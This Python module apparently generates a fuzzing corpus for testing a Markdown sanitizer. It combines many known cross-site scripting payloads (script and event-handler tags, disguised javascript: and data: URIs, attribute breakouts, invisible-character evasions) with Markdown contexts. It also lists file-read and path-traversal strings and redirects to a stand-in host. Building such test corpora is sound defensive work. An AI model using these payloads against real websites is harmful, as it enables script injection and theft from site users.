"""Payloads × the places of Markdown where one could get through → thousands of bodies that attack.

The families are the published ones: elements and their event handlers, schemes and how they are disguised,
attributes that are broken out of, markup within markup, characters that parsers skip.
"""

from __future__ import annotations

from itertools import product
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

RUN = "window.attacked=1"  # what every payload would do

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php ?><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>',
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    '<iframe src="javascript:parent.attacked=1"></iframe>',
    '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<a href="javascript:{RUN}">x</a>',
    f"<a onmouseover={RUN}>x</a>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<style>*{background:url(https://evil.example/)}</style>",
    '<link rel="stylesheet" href="https://evil.example/">',
    '<div style="background:url(https://evil.example/)">x</div>',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script>{RUN}\\</script>",
    f"\u200b<script\u200b>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "{{ ''.__class__.__mro__ }}{% for x in y %}{# z #}",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript&#x3A;{RUN}",
    f"java&#10;script:{RUN}",
    f"java&Tab;script:{RUN}",
    f"&#1;javascript:{RUN}",
    f"&#x20;javascript:{RUN}",
    f"&nbsp;javascript:{RUN}",
    f"%6aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"java\\script:{RUN}",
    f"java\u200bscript:{RUN}",
    f"\u00adjavascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hdHRhY2tlZD0xPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:https://example.org/{RUN}",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "view-source:https://example.org/",
    "intent://evil.example#Intent;end",
    "ms-msdt:/id",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "&#47;/evil.example/x",
    "http:/\\evil.example",
    "https://user:secret@evil.example/",
    f'/"onmouseover="{RUN}',
    f"/'onmouseover='{RUN}",
    f"/&quot;onmouseover=&quot;{RUN}",
    f"/ onmouseover={RUN}",
    f'x"><script>{RUN}</script>',
    "../../../../etc/passwd",
    "feed:javascript:x",
)

PLACES_OF_ELEMENTS = (
    "{}",
    "ก {} ข",
    "# {}",
    "> {}",
    "- {}",
    "- [ ] {}",
    "| {} | ก |\n| --- | --- |\n| ข | {} |",
    "**{}**",
    "~~{}~~",
    "`{}`",
    "```{}\n{}\n```",
    "    {}",
    "[{}](/)",
    '[ก](/ "{}")',
    "![{}](photo.jpg)",
    "![ก](photo.jpg '{}')",
    "[{}]: /\n\n[{}]",
    "ก[^1]\n\n[^1]: {}",
    "ก[^{}]\n\n[^{}]: ข",
    "<{}>",
    "\\{}",
    "* * *\n{}\n===",
)

PLACES_OF_ADDRESSES = (
    "[ก]({})",
    "[ก](<{}>)",
    '[ก]({} "ข")',
    "![ก]({})",
    "![ก](<{}>)",
    "<{}>",
    "[ก][ข]\n\n[ข]: {}",
    "[ก][ข]\n\n[ข]: <{}> '{}'",
    "[![ก]({})]({})",
    "[[ก]({})]({})",
    "{}",
    "# [ก]({})",
    "| [ก]({}) |\n| --- |",
    "ก[^1]\n\n[^1]: [ข]({})",
    "```\n[ก]({})\n```",
    "[ก\n]({})",
    "[ก](\n{}\n)",
    "&#91;ก&#93;({})",
)
# What parsers are known to look through: put before a payload, or between its letters.
DISGUISES = ("{}", " {}", "\t{}", "\u00a0{}", "\ufeff{}", "{}\n", "&Tab;{}", "\\\n{}")


def attacks() -> Iterator[str]:
    for place, element, disguise in product(PLACES_OF_ELEMENTS, ELEMENTS, DISGUISES):
        yield place.replace("{}", disguise.replace("{}", element))
    for place, address, disguise in product(PLACES_OF_ADDRESSES, ADDRESSES, DISGUISES):
        yield place.replace("{}", disguise.replace("{}", address))
